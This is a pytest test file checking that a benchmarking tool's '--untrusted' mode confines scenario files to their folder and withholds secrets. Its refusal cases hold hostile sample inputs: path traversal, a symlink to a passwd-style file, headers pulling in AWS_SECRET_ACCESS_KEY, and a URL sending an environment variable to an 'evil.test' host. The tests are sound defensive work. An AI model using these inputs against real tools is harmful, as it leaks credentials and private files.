"""`--untrusted`: scenario files of others keep to their folder and get no secrets."""

from __future__ import annotations

import os
import stat
import sys
from pathlib import Path

import pytest

from tests.integration.core.runs import janbench

STEP = "      - kind: request\n        path: /x\n"
_VERBS = (["list"], ["render"], ["validate"], ["run", "--all", "--dry-run"])
HEAD = "scenarios:\n  a:\n    steps:\n"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "outside.txt").write_text("root:x:0:0\n")
    (tmp_path / "outside.yaml").write_text(HEAD.replace("a:", "b:") + STEP)
    inside = tmp_path / "inside"
    inside.mkdir()
    (inside / "link.txt").symlink_to(tmp_path / "outside.txt")
    (inside / "own.txt").write_text("hello\n")
    return inside


def _chat(file: object) -> str:
    return f"{HEAD}      - kind: chat\n        prompts: {{file: '{file}'}}\n"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (_chat("../outside.txt"), "outside of the scenario file's folder"),
        (_chat("{root}/outside.txt"), "outside of the scenario file's folder"),
        (_chat("link.txt"), "outside of the scenario file's folder"),
        ("include: [../outside.yaml]\n" + HEAD + STEP, "outside of the scenario file's folder"),
        (
            HEAD + STEP + "        headers: {x: '${AWS_SECRET_ACCESS_KEY}'}\n",
            "AWS_SECRET_ACCESS_KEY",
        ),
        (HEAD + STEP + "        headers: {x: '${API_KEY:-none}'}\n", "the variable API_KEY"),
        (HEAD + STEP + "        body: {x: ['${HOME}']}\n", "the variable HOME"),
        (HEAD + "      - kind: request\n        path: /x/${USER}\n", "the variable USER"),
        (HEAD + STEP + "        extract: {PATH: id}\n        body: '${PATH}'\n", "variable PATH"),
        ("target: {base: 'http://${HOME:-x}.evil.test'}\n" + HEAD + STEP, "the variable HOME"),
    ],
)
def test_what_is_refused(folder: Path, text: str, message: str) -> None:
    file = folder / "scenarios.yaml"
    file.write_text(text.replace("{root}", str(folder.parent)))
    planted = {"AWS_SECRET_ACCESS_KEY": "PLANTED-1", "API_KEY": "PLANTED-2"}
    verb = _VERBS[len(text) % len(_VERBS)]
    ran = janbench(folder, *verb, "--untrusted", extra=planted)
    assert ran.code == 2, (verb, ran.stdout, ran.stderr)
    assert message in ran.stderr and "scenarios.yaml:" in ran.stderr
    assert "root:x" not in ran.stderr and "PLANTED" not in ran.stderr
    assert not (folder / "src").exists()


def test_what_is_allowed(folder: Path) -> None:
    text = (
        _chat("own.txt") + STEP.replace("/x", "/x/${MODEL}/${id}") + "        extract: {id: id}\n"
    )
    text += "        headers: {x: '${MY_KEY}'}\n"
    (folder / "scenarios.yaml").write_text(text)
    assert janbench(folder, "list", "--untrusted").code == 2
    ran = janbench(folder, "list", "--untrusted", "--allow-var", "MY_KEY")
    assert ran.code == 0, ran.stderr
    assert janbench(folder, "list", "--allow-var", "MY_KEY").code == 2


def test_hand_written_scripts_are_programs(folder: Path) -> None:
    (folder / "scenarios.yaml").write_text(HEAD + STEP)
    (folder / "src").mkdir()
    (folder / "src" / "mine.js").write_text("export default function () {}\n")
    ran = janbench(folder, "run", "mine", "--dry-run", "--untrusted")
    assert ran.code == 2
    assert "runs no hand-written scripts" in ran.stderr
    assert janbench(folder, "run", "a", "--dry-run", "--untrusted").code == 0


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no such permissions")
def test_private_data_stays_private(folder: Path) -> None:
    private = folder / "own.txt"
    private.chmod(0o600)
    (folder / "scenarios.yaml").write_text(_chat("own.txt"))
    os.umask(os.umask(0o022))
    assert janbench(folder, "render").code == 0
    data = [path for path in (folder / "src" / "data").iterdir() if "prompts" in path.name]
    assert data
    assert {stat.S_IMODE(path.stat().st_mode) for path in data} == {0o600}
